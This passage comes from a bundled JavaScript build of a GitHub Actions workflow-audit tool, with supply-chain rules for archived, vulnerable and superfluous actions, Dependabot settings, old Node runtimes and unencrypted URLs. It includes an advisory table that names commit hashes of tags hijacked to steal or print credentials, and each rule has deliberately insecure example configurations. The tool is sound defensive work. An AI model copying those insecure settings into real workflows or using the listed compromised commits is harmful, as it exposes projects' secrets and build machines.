    ['cedrickring/golang-action', 'actions/setup-go'],
    ['cirrus-actions/rebase', undefined],
    ['contributor-assistant/github-action', undefined],
    ['convictional/trigger-workflow-and-wait', '`gh workflow run`'],
    ['crazy-max/ghaction-docker-buildx', 'docker/setup-buildx-action'],
    ['crazy-max/ghaction-hugo', undefined],
    ['decathlon/pull-request-labeler-action', 'actions/labeler'],
    ['dnephin/pre-commit-golang', undefined],
    ['expo/expo-preview-action', 'expo/expo-github-action'],
    ['gradle/gradle-build-action', 'gradle/actions/setup-gradle'],
    ['grafana/k6-action', 'grafana/run-k6-action'],
    ['helaili/github-graphql-action', '`gh api graphql`'],
    ['helaili/jekyll-action', undefined],
    ['ilshidur/action-slack', 'slackapi/slack-github-action'],
    ['jakejarvis/backblaze-b2-action', undefined],
    ['jakejarvis/cloudflare-purge-action', undefined],
    ['jakejarvis/firebase-deploy-action', undefined],
    ['jakejarvis/hugo-build-action', undefined],
    ['jakejarvis/lighthouse-action', undefined],
    ['jakejarvis/s3-sync-action', '`aws s3 sync`'],
    ['justinribeiro/lighthouse-action', undefined],
    ['lucas-c/pre-commit-hooks-bandit', 'pycqa/bandit'],
    ['machine-learning-apps/wandb-action', undefined],
    ['marvinpinto/action-automatic-releases', '`gh release create`'],
    ['marvinpinto/actions', undefined],
    ['maxheld83/ghpages', 'actions/deploy-pages'],
    ['micnncim/action-lgtm-reaction', undefined],
    ['paambaati/codeclimate-action', 'qltysh/qlty-action'],
    ['pre-commit/mirrors-autopep8', 'hhatto/autopep8'],
    ['pre-commit/mirrors-isort', 'pycqa/isort'],
    ['pre-commit/mirrors-prettier', undefined],
    ['pycqa/pydocstyle', 'astral-sh/ruff-pre-commit'],
    ['repo-sync/github-sync', undefined],
    ['repo-sync/pull-request', '`gh pr create`'],
    ['scottbrenner/generate-changelog-action', undefined],
    ['semgrep/semgrep-action', '`semgrep ci`'],
    ['sonarsource/sonarcloud-github-action', 'sonarsource/sonarqube-scan-action'],
    ['stefanprodan/kube-tools', undefined],
    ['technote-space/auto-cancel-redundant-workflow', '`concurrency` with `cancel-in-progress: true`'],
    ['technote-space/get-diff-action', undefined],
    ['terrencepreilly/darglint', 'astral-sh/ruff-pre-commit'],
    ['tibdex/github-app-token', 'actions/create-github-app-token'],
    ['whelk-io/maven-settings-xml-action', undefined],
    ['yeslayla/build-godot-action', undefined],
]);

// EXTERNAL MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/supply-chain/forbidden-uses.js
var forbidden_uses = __webpack_require__(8624);
;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/supply-chain/archived-uses.js
// Actions and hooks whose owners have given them up.





const archivedUses = (0,src_rule/* audit */.s)({
    id: 'archived-uses',
    severity: 'medium',
    confidence: 'high',
    title: 'An action that nobody maintains',
    why: 'Nobody closes holes in it any more, nor moves it to a runtime that still gets mended.',
    remedy: 'Use what took its place, or do it in a script.',
    controls: controls/* controls */.n.supplyChain,
    risks: risks/* risks */.X.dependencies,
    references: ['https://docs.zizmor.sh/audits/#archived-uses'],
    on: ['uses', 'pre-commit'],
    *check(part) {
        if ('repositories' in part) {
            for (const { repo, map } of part.repositories) {
                const slug = repo === undefined ? undefined : (0,forbidden_uses/* slugOfAddress */.D)(repo.text)?.slug;
                if (repo !== undefined && slug !== undefined && archivedActions.has(slug))
                    yield { at: repo.at, statement: map.at, message: said(slug) };
            }
            return;
        }
        const { uses, owner } = part;
        if (uses.target.kind !== 'repository' || !archivedActions.has(uses.target.slug))
            return;
        yield { at: uses.scalar.at, statement: owner.map.at, message: said(uses.target.slug) };
    },
    examples: {
        bad: [
            (0,example/* stepsExample */.Y6)(`- uses: actions/create-release@${example/* commit */.cd} # v1.1.4`),
            {
                path: '.pre-commit-config.yaml',
                text: 'repos:\n  - repo: https://github.com/pre-commit/mirrors-autopep8\n    rev: v2.0.4\n    hooks:\n      - id: autopep8\n',
            },
        ],
        good: [(0,example/* stepsExample */.Y6)('- run: gh release create v1.0.0 --generate-notes')],
    },
});
function said(slug) {
    const instead = archivedActions.get(slug);
    return `\`${slug}\` is given up by its owner${instead === undefined ? '' : `; in its place there is ${instead}`}`;
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/supply-chain/dependabot-cooldown.js
// Updates on the day a version appears.





const schedule = 'package-ecosystem: npm\ndirectory: /\nschedule:\n  interval: weekly';
const dependabotCooldown = (0,src_rule/* audit */.s)({
    id: 'dependabot-cooldown',
    severity: 'medium',
    confidence: 'high',
    title: 'New versions are taken within days of their release',
    why: 'Most poisoned releases are found within days; whoever waits does not get them.',
    remedy: 'Set `cooldown` with `default-days` of a week or more.',
    controls: controls/* controls */.n.supplyChain,
    risks: risks/* risks */.X.dependencies,
    references: [
        'https://docs.zizmor.sh/audits/#dependabot-cooldown',
        'https://docs.github.com/en/code-security/dependabot/working-with-dependabot/dependabot-options-reference#cooldown-',
    ],
    on: ['dependabot'],
    *check({ updates }, { file, settings }) {
        for (const update of updates) {
            const problem = problemOf(update, settings.cooldownDays, file);
            if (problem !== undefined)
                yield { ...problem, statement: update.map.at };
        }
    },
    examples: {
        bad: [
            (0,example/* dependabotExample */.Pg)(schedule),
            (0,example/* dependabotExample */.Pg)(`${schedule}\ncooldown:\n  default-days: 2 # soon`),
            (0,example/* dependabotExample */.Pg)(`${schedule}\ncooldown:\n  semver-major-days: 30`),
        ],
        good: [(0,example/* dependabotExample */.Pg)(`${schedule}\ncooldown:\n  default-days: 7`)],
    },
});
/** Days that Dependabot itself waits where nothing is said, since July 2026. */
const daysByDefault = 3;
function problemOf(update, least, file) {
    const { cooldown, map } = update;
    if (cooldown === undefined)
        return daysByDefault >= least
            ? undefined
            : {
                at: (0,parts/* placeOfKey */.qQ)(map, 'package-ecosystem') ?? map.at,
                message: `Without \`cooldown\` updates come after ${daysByDefault} days, where ${least} are asked for`,
                fix: () => withCooldown(map, least, file),
            };
    const whole = (0,parts/* placeOfKey */.qQ)(map, 'cooldown') ?? map.at;
    if (cooldown.value.kind !== 'map')
        return { at: whole, message: '`cooldown` is no mapping' };
    const days = (0,parts/* entryOf */.Ms)(cooldown.value, 'default-days')?.value;
    if (days === undefined)
        return daysByDefault >= least
            ? undefined
            : {
                at: whole,
                message: `\`cooldown\` has no \`default-days\`, so that ${daysByDefault} days count, where ${least} are asked for`,
                fix: () => withCooldown(map, least, file),
            };
    const given = days.kind === 'scalar' ? Number(days.text) : Number.NaN;
    if (given >= least)
        return undefined;
    return {
        at: (0,parts/* placeOfKey */.qQ)(cooldown.value, 'default-days') ?? days.at,
        message: `\`default-days\` is ${Number.isNaN(given) ? 'no number' : given}, where ${least} are asked for`,
        fix: () => days.kind !== 'scalar' || days.verbatim === undefined || days.alias !== undefined
            ? undefined
            : { description: `Wait ${least} days`, edits: [{ ...days.verbatim, replacement: String(least) }] },
    };
}
function withCooldown(map, days, file) {
    const edits = (0,src_edits.addEntries)(file, map, 'cooldown', [['default-days', String(days)]], 'end');
    const when = (0,parts/* entryOf */.Ms)(map, 'cooldown') === undefined ? 'before an update' : 'by default';
    return edits === undefined ? undefined : { description: `Wait ${days} days ${when}`, edits };
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/supply-chain/dependabot-execution.js
// Dependabot that runs code of what it updates.




const update = 'package-ecosystem: bundler\ndirectory: /\nschedule:\n  interval: weekly\ncooldown:\n  default-days: 7';
const dependabotExecution = (0,src_rule/* audit */.s)({
    id: 'dependabot-execution',
    severity: 'high',
    confidence: 'high',
    title: 'Dependabot runs code of the packages it updates',
    why: 'A poisoned release runs where Dependabot\u2019s secrets for private registries are, before anybody looks at the pull request.',
    remedy: 'Set `insecure-external-code-execution: deny`.',
    controls: controls/* controls */.n.supplyChain,
    risks: risks/* risks */.X.poisoned,
    references: ['https://docs.zizmor.sh/audits/#dependabot-execution'],
    on: ['dependabot'],
    *check({ updates }) {
        for (const { externalCode, map } of updates) {
            if (externalCode?.text !== 'allow')
                continue;
            yield {
                at: (0,parts/* placeOfKey */.qQ)(map, 'insecure-external-code-execution') ?? externalCode.at,
                statement: map.at,
                message: 'Code of the packages is run while they are looked at',
                fix: () => externalCode.verbatim === undefined || externalCode.alias !== undefined
                    ? undefined
                    : { description: 'Run no code of packages', kind: 'suggested', edits: [{ ...externalCode.verbatim, replacement: 'deny' }] },
            };
        }
    },
    examples: {
        bad: [(0,example/* dependabotExample */.Pg)(`${update}\ninsecure-external-code-execution: allow`)],
        good: [(0,example/* dependabotExample */.Pg)(`${update}\ninsecure-external-code-execution: deny`), (0,example/* dependabotExample */.Pg)(update)],
    },
});

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/supply-chain/deprecated-runtime.js
// JavaScript actions for versions of Node.js that nobody mends any more.


/** End of life of each, from nodejs.org; GitHub runs 12 and 16 as 20 meanwhile, and announced the same for 20. */
const ended = new Map([
    ['node12', '2022-04-30'],
    ['node16', '2023-09-11'],
    ['node20', '2026-04-30'],
]);
const action = (using) => `name: Greet\ndescription: Greets.\nruns:\n  using: ${using}\n  main: dist/index.js\n`;
const deprecatedRuntime = (0,src_rule/* audit */.s)({
    id: 'deprecated-runtime',
    severity: 'low',
    confidence: 'high',
    title: 'An action is made for a version of Node.js that has ended',
    why: 'Holes in the runtime are no longer closed, and runners give it up: the action then runs on a version it was never tried on.',
    remedy: 'Build and test the action for `node24`.',
    controls: controls/* controls */.n.configuration,
    risks: risks/* risks */.X.dependencies,
    references: [
        'https://github.blog/changelog/2025-09-19-deprecation-of-node-20-on-github-actions-runners/',
        'https://nodejs.org/en/about/previous-releases',
    ],
    on: ['action'],
    *check({ runs }, { now }) {
        if (runs.kind !== 'node')
            return;
        const { using } = runs;
        const end = ended.get(using.text.toLowerCase());
        // The day counts where it lies ahead: a scan without a clock judges by the oldest ones alone.
        if (end === undefined || (end > now.toISOString().slice(0, 10) && using.text.toLowerCase() === 'node20'))
            return;
        yield {
            at: using.at,
            statement: runs.map.at,
            message: `\`${using.text}\` ended on ${end}`,
            fix: () => using.verbatim === undefined || using.alias !== undefined
                ? undefined
                : { description: 'Run on Node.js 24', kind: 'suggested', edits: [{ ...using.verbatim, replacement: 'node24' }] },
        };
    },
    examples: {
        bad: [
            { path: 'action.yml', text: action('node16') },
            { path: 'greet/action.yml', text: action("'node12'") },
        ],
        good: [{ path: 'action.yml', text: action('node24') }],
    },
});

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/supply-chain/insecure-url-scheme.js
// Repositories and registries by an address that anyone on the way can answer for.




const hooks = (repo) => `repos:\n  - repo: ${repo}\n    rev: v1.0.0\n    hooks:\n      - id: check\n`;
const insecureUrlScheme = (0,src_rule/* audit */.s)({
    id: 'insecure-url-scheme',
    severity: 'high',
    confidence: 'high',
    title: 'Code is fetched without encryption',
    why: 'Anyone between here and there can hand over other code, and it runs on the machines of everybody who commits.',
    remedy: 'Write `https://`.',
    controls: controls/* controls */.n.supplyChain,
    risks: risks/* risks */.X.integrity,
    references: ['https://docs.zizmor.sh/audits/#insecure-url-scheme'],
    on: ['pre-commit', 'dependabot'],
    *check(part) {
        for (const url of addresses(part)) {
            const scheme = /^(http|git|ftp):\/\//i.exec(url.text)?.[1];
            if (scheme === undefined)
                continue;
            yield {
                at: url.at,
                message: `\`${scheme}://\` is neither encrypted nor does it say who answers`,
                fix: () => url.verbatim === undefined || url.alias !== undefined
                    ? undefined
                    : {
                        description: 'Write `https://`',
                        // A registry of one\u2019s own may not answer there; the code hosts do.
                        ...(/^(?:http|git):\/\/(?:github\.com|gitlab\.com)\//i.test(url.text) ? {} : { kind: 'suggested' }),
                        edits: [{ start: url.verbatim.start, end: url.verbatim.start + scheme.length, replacement: 'https' }],
                    },
            };
        }
    },
    examples: {
        bad: [
            { path: '.pre-commit-config.yaml', text: hooks('git://github.com/example/hooks') },
            { path: '.pre-commit-config.yaml', text: hooks("'http://example.com/hooks'") },
            (0,example/* dependabotExample */.Pg)('package-ecosystem: npm\ndirectory: /\nschedule:\n  interval: weekly\ncooldown:\n  default-days: 7', 'registries:\n  internal:\n    type: npm-registry\n    url: http://npm.example.com\n'),
        ],
        good: [{ path: '.pre-commit-config.yaml', text: hooks('https://github.com/example/hooks') }],
    },
});
function addresses(part) {
    if (part.kind === 'pre-commit')
        return part.repositories.flatMap(({ repo }) => repo ?? []);
    return part.registries.flatMap(({ value }) => {
        const url = value.kind === 'map' ? (0,parts/* entryOf */.Ms)(value, 'url')?.value : undefined;
        return url?.kind === 'scalar' ? [url] : [];
    });
}

// EXTERNAL MODULE: ./build/bundled/packages/formats/src/workflow/uses.js
var workflow_uses = __webpack_require__(5725);
;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/facts/advisories.js
// Advisories of GitHub Actions as ranges of versions, by their ids in the GitHub Advisory Database (https://github.com/advisories/ID). Not
// all of its ecosystem "GitHub Actions", and written down in November 2026 in part from the database, in part from other public texts that
// name the id: hold a row against the database before you build on its range or severity.

const advisoriesSource = { source: 'ids of the GitHub Advisory Database; ranges not all held against it', date: '2026-11-29' };
const injection = 'runs commands out of names that outsiders choose';
const rows = [
    ['afichet/openexr-viewer', '0', '0.6.1', 'high', 'GHSA-99jg-r3f4-rpxj', 'overruns its memory on images that are made for it'],
    [
        'actions/download-artifact',
        '4.0.0',
        '4.1.3',
        'high',
        'GHSA-cxww-7g56-2vh6',
        'writes outside of its folder when it unpacks an artifact',
    ],
    [
        'aquasecurity/setup-trivy',
        '0',
        '0.2.6',
        'critical',
        'GHSA-69fq-xp46-6x23',
        'had its tags moved to a commit that steals credentials',
        ['e6c2c5e321ed9123bda567646e2f96565e34abe1', '8afa9b9f9183b4e00c46e2b82d34047e3c177bd0'],
    ],
    [
        'aquasecurity/trivy-action',
        '0',
        '0.35.0',
        'critical',
        'GHSA-69fq-xp46-6x23',
        'had its tags moved to a commit that steals credentials',
        ['c5967f85626795f647d4bf6eb67227f9b79e02f5'],
    ],
    ['atlassian/gajira-create', '0', '2.0.1', 'high', 'GHSA-4xqx-pqpj-9fqw', 'runs code out of the text of issues'],
    ['azure/setup-kubectl', '0', '3', 'medium', 'GHSA-p756-rfxh-x63h', 'lets every user of the runner change the program that it installs'],
    ['bullfrogsec/bullfrog', '0', '0.8.4', 'medium', 'GHSA-m32f-fjw2-37v3', 'lets DNS over TCP through its filter'],
    ['canonical/get-workflow-version-action', '0', '1.0.1', 'high', 'GHSA-26wh-cc3r-w6pj', 'may print parts of the token in its errors'],
    ['check-spelling/check-spelling', '0', '0.0.19', 'critical', 'GHSA-g86g-chm8-7r2p', 'hands the token to pull requests'],
    ['embano1/wip', '0', '2', 'high', 'GHSA-rg3q-prf8-qxmp', 'runs commands out of the title of a pull request'],
    ['fish-shop/syntax-check', '0', '1.6.12', 'high', 'GHSA-xj87-mqvh-88w2', injection],
    // Of version 2 there is no mended release.
    ['github/codeql-action', '2.26.11', '3', 'high', 'GHSA-vqf5-2xx6-9wfm', 'may upload the token in debug artifacts'],
    ['github/codeql-action', '3.26.11', '3.28.3', 'high', 'GHSA-vqf5-2xx6-9wfm', 'may upload the token in debug artifacts'],
    ['gradle/gradle-build-action', '0', '2.4.2', 'high', 'GHSA-h3qr-39j9-4r5v', 'saves secrets in the cache of Gradle\u2019s configuration'],
    ['hashicorp/vault-action', '0', '2.2.0', 'high', 'GHSA-4mgv-m5cm-f9h7', 'does not hide secrets of several lines in the log'],
    ['j178/prek-action', '0', '1.0.6', 'critical', 'GHSA-pwf7-47c3-mfhx', 'runs code out of its inputs'],
    ['kartverket/github-workflows', '0', '2.7.5', 'high', 'GHSA-f9qj-7gh3-mhj4', 'runs code out of a caller\u2019s inputs'],
    ['ozi-project/publish', '1.13.2', '1.13.6', 'medium', 'GHSA-2487-9f55-2vg9', 'runs code out of the name of a branch'],
    ['pypa/gh-action-pypi-publish', '0', '1.13.0', 'low', 'GHSA-vxmw-7h4f-hqxh', 'puts expressions into scripts'],
    [
        'reviewdog/action-setup',
        '1',
        '1.0.1',
        'high',
        'GHSA-qmg3-hpqr-gqvc',
        'had its tag moved to a commit that prints secrets',
        ['f0d342d24037bb11d26b9bd8496e0808ba32e9ec'],
    ],
    ['rlespinasse/github-slug-action', '0', '1.1.1', 'medium', 'GHSA-7f32-hm4h-w77q', 'sets variables by commands that are printed'],
    ['rlespinasse/github-slug-action', '4.0.0', '4.4.1', 'high', 'GHSA-6q4m-7476-932w', injection],
    ['some-natalie/ghas-to-csv', '0', '1', 'high', 'GHSA-634p-93h9-92vh', 'writes cells that spreadsheets execute'],
    ['sonarsource/sonarqube-scan-action', '4.0.0', '5.3.1', 'high', 'GHSA-f79p-9c5r-xg88', 'runs commands out of its arguments'],
    ['sonarsource/sonarqube-scan-action', '4.0.0', '6.0.0', 'high', 'GHSA-5xq9-5g24-4g6f', 'runs commands out of its arguments on Windows'],
    ['step-security/harden-runner', '0', '2.10.2', 'low', 'GHSA-g85v-wf27-67xc', 'runs commands out of variables'],
    ['step-security/harden-runner', '0.12.0', '2.12.0', 'medium', 'GHSA-mxr3-8whj-j74r', 'lets a job get root back by Docker'],
    ['step-security/harden-runner', '0', '2.16.0', 'medium', 'GHSA-46g3-37rh-v698', 'lets DNS over HTTPS through its filter'],
    ['step-security/harden-runner', '0', '2.16.0', 'medium', 'GHSA-g699-3x6g-wm3g', 'lets DNS over TCP through its filter'],
    ['tj-actions/branch-names', '0', '7.0.7', 'critical', 'GHSA-8v8w-v8xg-79rf', 'runs commands out of the name of a branch'],
    ['tj-actions/branch-names', '0', '9.0.0', 'critical', 'GHSA-gq52-6phf-x2r6', 'runs commands out of the name of a branch'],
    ['tj-actions/changed-files', '0', '41', 'high', 'GHSA-mcph-m25j-8j63', 'gives out names of files that scripts execute'],
    [
        'tj-actions/changed-files',
        '0',
        '46.0.1',
        'high',
        'GHSA-mrrh-fwg8-r2c3',
        'had its tags moved to a commit that prints secrets',
        ['0e58ed8671d6b60d0890c21b07f8835ace038e67'],
    ],
    ['tj-actions/verify-changed-files', '0', '17', 'high', 'GHSA-ghm2-rq8q-wrhc', 'gives out names of files that scripts execute'],
    ['ultralytics/actions', '0', '0.0.3', 'critical', 'GHSA-7x29-qqmq-v6qc', 'runs commands out of the name of a branch'],
];
const uploadsDebug = { input: 'debug', harms: (text) => (0,parts/* isTrue */.Hn)(text) || (0,parts/* isExpression */.BH)(text) };
/** What is only watched passes no filter. */
const blocks = { input: 'egress-policy', harms: (text) => text?.trim().toLowerCase() !== 'audit' };
const byInput = new Map([
    ['GHSA-vqf5-2xx6-9wfm', uploadsDebug],
    ['GHSA-46g3-37rh-v698', blocks],
    ['GHSA-g699-3x6g-wm3g', blocks],
]);
const bySlug = new Map();
for (const [slug, introduced, fixed, severity, id, what, moved] of rows) {
    const by = byInput.get(id);
    const last = rows.findLast((row) => row[0] === slug && row[4] === id)?.[2] ?? fixed;
    bySlug.set(slug, [
        ...(bySlug.get(slug) ?? []),
        {
            id,
            severity,
            introduced: numbers(introduced),
            fixed: numbers(fixed),
            mended: numbers(last),
            what,
            ...(by === undefined ? {} : { by }),
            ...(moved === undefined ? {} : { moved }),
        },
    ]);
}
function numbers(text) {
    return text.split('.').map(Number);
}
function advisoriesFor(slug, { version, commit }) {
    return (bySlug.get(slug) ?? []).filter(({ moved, introduced, fixed }) => {
        if (moved !== undefined && commit !== undefined)
            return moved.includes(commit.toLowerCase());
        if (version === undefined)
            return false;
        // The very tag that was moved.
        if (moved !== undefined && compared(version, introduced) === 0)
            return true;
        const newest = [...version, ...Array(Math.max(0, 3 - version.length)).fill(Number.POSITIVE_INFINITY)];
        return compared(newest, introduced) >= 0 && (fixed === undefined || compared(newest, fixed) < 0);
    });
}
function compared(a, b) {
    for (let i = 0; i < Math.max(a.length, b.length); i++) {
        const [left = 0, right = 0] = [a[i], b[i]];
        if (left !== right)
            return left < right ? -1 : 1;
    }
    return 0;
}

// EXTERNAL MODULE: ./build/bundled/packages/engines/workflow-audit/src/facts/version.js
var facts_version = __webpack_require__(5840);
;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/supply-chain/known-vulnerable-actions.js
// Actions in a version of which an advisory is published.









const knownVulnerableActions = (0,src_rule/* audit */.s)({
    id: 'known-vulnerable-actions',
    aliases: ['known_vulnerability_in_build_component', 'known-vulnerable-component'],
    severity: 'high',
    confidence: 'high',
    title: 'An action has a hole that is published',
    why: 'How it is used against whoever runs it can be read by anyone.',
    remedy: 'Use the first version without it, or a later one.',
    controls: controls/* controls */.n.supplyChain,
    risks: risks/* risks */.X.dependencies,
    references: ['https://docs.zizmor.sh/audits/#known-vulnerable-actions', 'https://github.com/advisories?query=ecosystem%3Aactions'],
    on: ['uses'],
    *check({ uses, owner }, { file, settings }) {
        const { target } = uses;
        if (target.kind !== 'repository' || target.ref === undefined)
            return;
        const pinned = (0,workflow_uses/* isCommitRef */.ZW)(target.ref);
        const version = (0,facts_version/* versionIn */.I)(pinned ? ((0,uses_comment/* usesComment */.f)(uses, file) ?? '') : target.ref);
        const all = advisoriesFor(target.slug, { version, commit: pinned ? target.ref : undefined });
        const found = all.filter(({ id }) => !settings.allowedAdvisories.has(id.toLowerCase()));
        const newest = newestFix(found);
        for (const advisory of found)
            yield {
                at: uses.scalar.at,
                statement: owner.map.at,
                severity: advisory.by === undefined || harms(advisory.by, target.slug, owner) ? advisory.severity : lower(advisory.severity),
                ...(pinned ? { confidence: 'medium' } : {}),
                message: `\`${target.slug}\` ${advisory.what}: ${advisory.id}, mended in ${advisory.mended.join('.')}`,
                fix: () => (newest === undefined ? undefined : mended(uses, target, newest)),
                properties: { advisory: advisory.id },
            };
    },
    examples: {
        bad: [
            (0,example/* stepsExample */.Y6)('- uses: tj-actions/changed-files@v40'),
            (0,example/* stepsExample */.Y6)('- uses: actions/download-artifact@v4.1.1'),
            (0,example/* stepsExample */.Y6)(`- uses: rlespinasse/github-slug-action@${example/* commit */.cd} # v4.3.0`),
            (0,example/* stepsExample */.Y6)('- uses: tj-actions/changed-files@0e58ed8671d6b60d0890c21b07f8835ace038e67'),
        ],
        good: [
            (0,example/* stepsExample */.Y6)(`- uses: tj-actions/changed-files@${example/* commit */.cd} # v46.0.1`),
            (0,example/* stepsExample */.Y6)(`- uses: rlespinasse/github-slug-action@${example/* commit */.cd} # v4.4.1`),
            (0,example/* stepsExample */.Y6)(`- uses: aquasecurity/trivy-action@${example/* commit */.cd} # v0.28.0\n  with:\n    scan-type: fs`),
        ],
    },
});
/** Whether a step of the same job is told so: what one step of the action is told holds for its others. */
function harms({ input, harms: by }, slug, owner) {
    const around = owner.kind === 'step' ? owner.owner : owner;
    return around.steps.some((step) => step.uses?.target.kind === 'repository' && step.uses.target.slug === slug && by((0,parts/* inputOf */.wg)(step, input)?.scalar?.text));
}
function newestFix(found) {
    const fixes = found.flatMap(({ fixed }) => (fixed === undefined ? [] : [fixed]));
    return fixes.sort((a, b) => (b[0] ?? 0) - (a[0] ?? 0) || (b[1] ?? 0) - (a[1] ?? 0) || (b[2] ?? 0) - (a[2] ?? 0))[0]?.join('.');
}
/** By tag only: which commit a version is, is for the pin to find out. */
function mended(uses, { ref = '' }, version) {
    const at = (0,workflow_uses/* refSpan */.Ov)(uses);
    if (at === undefined || (0,workflow_uses/* isCommitRef */.ZW)(ref) || uses.scalar.alias !== undefined || !/^v?\d/.test(ref))
        return undefined;
    const name = `${ref.startsWith('v') ? 'v' : ''}${version}`;
    return { description: `Use ${name}`, kind: 'suggested', edits: [{ ...at, replacement: name }] };
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/supply-chain/self-repository.js
// Actions of this repository by their path in the workspace, where whatever was checked out last lies.



const selfRepository = (0,src_rule/* audit */.s)({
    id: 'self-repository',
    severity: 'low',
    confidence: 'high',
    title: 'A local action or workflow is named by a path',
    why: 'For a step that path leads to what was checked out last: another branch, a pull request\u2019s head, a file that a step wrote.',
    remedy: 'Name it with `$/`, which is this repository at the commit of the workflow that says so.',
    controls: controls/* controls */.n.supplyChain,
    risks: risks/* risks */.X.flow,
    references: ['https://docs.zizmor.sh/audits/#self-repository'],
    on: ['uses'],
    *check({ uses, owner }) {
        if (uses.target.kind !== 'local' || uses.target.self)
            return;
        const named = uses.text.slice(0, 200);
        yield {
            at: uses.scalar.at,
            statement: owner.map.at,
            message: owner.kind === 'job'
                ? `\`${named}\` is the older form of \`$/\`, which means this commit for jobs and steps alike`
                : `\`${named}\` is whatever lies in the workspace, \`$/\` is this commit\u2019s`,
            fix: () => bySelf(uses),
        };
    },
    examples: {
        bad: [(0,example/* stepsExample */.Y6)('- uses: ./.github/actions/setup'), (0,example/* callExample */.jL)('uses: ./.github/workflows/build.yml')],
        good: [(0,example/* stepsExample */.Y6)(`- uses: example/setup@${example/* commit */.cd} # v1.0.0`)],
    },
});
/** A person decides: a checkout of another commit may have been meant. */
function bySelf({ scalar }) {
    const at = scalar.verbatim;
    if (at === undefined || scalar.alias !== undefined || !/^\s*\.\/(?!.*\.\.)/.test(scalar.text))
        return undefined;
    const start = at.start + scalar.text.indexOf('.');
    return { description: 'Name it by `$/`', kind: 'suggested', edits: [{ start, end: start + 1, replacement: '$' }] };
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/supply-chain/superfluous-actions.js
// Actions for what the runner brings along.




/** What each does with a token or the network, `gh`, `git`, `docker`, `jq` and `rustup` of the runner do without somebody else's code. */
const replaced = new Map([
    ['softprops/action-gh-release', { use: 'gh release create' }],
    ['ncipollo/release-action', { use: 'gh release create' }],
    ['elgohr/github-release-action', { use: 'gh release create' }],
    ['svenstaro/upload-release-action', { use: 'gh release upload' }],
    ['dacbd/create-issue-action', { use: 'gh issue create' }],
    ['actions-ecosystem/action-add-labels', { use: 'gh issue edit --add-label' }],
    ['actions-ecosystem/action-remove-labels', { use: 'gh issue edit --remove-label' }],
    ['addnab/docker-run-action', { use: 'docker run' }],
    ['sergeysova/jq-action', { use: 'jq' }],
    ['dtolnay/rust-toolchain', { use: 'rustup toolchain install', persona: 'pedantic', confidence: 'medium' }],
    ['peter-evans/create-pull-request', { use: 'gh pr create', persona: 'pedantic', confidence: 'low' }],
    ['peter-evans/create-or-update-comment', { use: 'gh issue comment', persona: 'pedantic', confidence: 'low' }],
    ['stefanzweifel/git-auto-commit-action', { use: 'git commit', persona: 'pedantic', confidence: 'low' }],
    ['endbug/add-and-commit', { use: 'git commit', persona: 'pedantic', confidence: 'low' }],
]);
const superfluousActions = (0,src_rule/* audit */.s)({
    id: 'superfluous-actions',
    severity: 'low',
    confidence: 'high',
    title: 'An action does what the runner can do by itself',
    why: 'Each action is code of somebody else that runs with the job\u2019s token, and here it saves one line of script.',
    remedy: 'Call the program that the runner has in a `run:` step.',
    controls: controls/* controls */.n.supplyChain,
    risks: risks/* risks */.X.thirdParty,
    references: ['https://docs.zizmor.sh/audits/#superfluous-actions'],
    on: ['action-step'],
    *check(step) {
        const name = (0,parts/* actionName */.aM)(step);
        const instead = name === undefined ? undefined : replaced.get(name);
        if (instead === undefined || step.uses === undefined)
            return;
        const { use, persona, confidence } = instead;
        yield {
            at: step.uses.scalar.at,
            statement: step.map.at,
            message: `\`${use}\` in a script does what \`${name}\` does`,
            ...(persona === undefined ? {} : { persona }),
            ...(confidence === undefined ? {} : { confidence }),
        };
    },
    examples: {
        bad: [
            (0,example/* stepsExample */.Y6)(`- uses: softprops/action-gh-release@${example/* commit */.cd} # v2.2.1`),
            (0,example/* stepsExample */.Y6)(`- uses: peter-evans/create-pull-request@${example/* commit */.cd} # v7.0.6`),
        ],
        good: [(0,example/* stepsExample */.Y6)('- run: gh release create v1.0.0 --generate-notes')],
    },
});

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/facts/popular-names.js
// Actions that are common in public workflows, in small letters: what a misspelt name may have been meant to be. Put together by hand, 2026-11.
const names = [
    'actions/attest',
    'actions/attest-build-provenance',
    'actions/cache',
    'actions/checkout',
    'actions/configure-pages',
    'actions/create-github-app-token',
    'actions/dependency-review-action',
    'actions/deploy-pages',
    'actions/download-artifact',
    'actions/github-script',
    'actions/labeler',
    'actions/setup-dotnet',
    'actions/setup-go',
    'actions/setup-java',
    'actions/setup-node',
    'actions/setup-python',
    'actions/stale',
    'actions/upload-artifact',
    'actions/upload-pages-artifact',
    'amannn/action-semantic-pull-request',
    'android-actions/setup-android',
    'aquasecurity/trivy-action',
    'astral-sh/setup-uv',
    'aws-actions/amazon-ecr-login',
    'aws-actions/configure-aws-credentials',
    'azure/login',
    'bufbuild/buf-action',
    'cachix/install-nix-action',
    'changesets/action',
    'codecov/codecov-action',
    'crazy-max/ghaction-import-gpg',
    'dawidd6/action-download-artifact',
    'denoland/setup-deno',
    'dependabot/fetch-metadata',
    'docker/build-push-action',
    'docker/login-action',
    'docker/metadata-action',
    'docker/setup-buildx-action',
    'docker/setup-qemu-action',
    'dorny/paths-filter',
    'dtolnay/rust-toolchain',
    'emscripten-core/emsdk',
    'endbug/add-and-commit',
    'github/codeql-action',
    'golangci/golangci-lint-action',
    'google-github-actions/auth',
    'google-github-actions/setup-gcloud',
    'googleapis/release-please-action',
    'goreleaser/goreleaser-action',
    'gradle/actions',
    'hashicorp/setup-terraform',
    'hashicorp/vault-action',
    'jamesives/github-pages-deploy-action',
    'jdx/mise-action',
    'julia-actions/setup-julia',
    'lukka/get-cmake',
    'lycheeverse/lychee-action',
    'mikefarah/yq',
    'mozilla-actions/sccache-action',
    'msys2/setup-msys2',
    'mxschmitt/action-tmate',
    'ncipollo/release-action',
    'nick-fields/retry',
    'oven-sh/setup-bun',
    'peaceiris/actions-gh-pages',
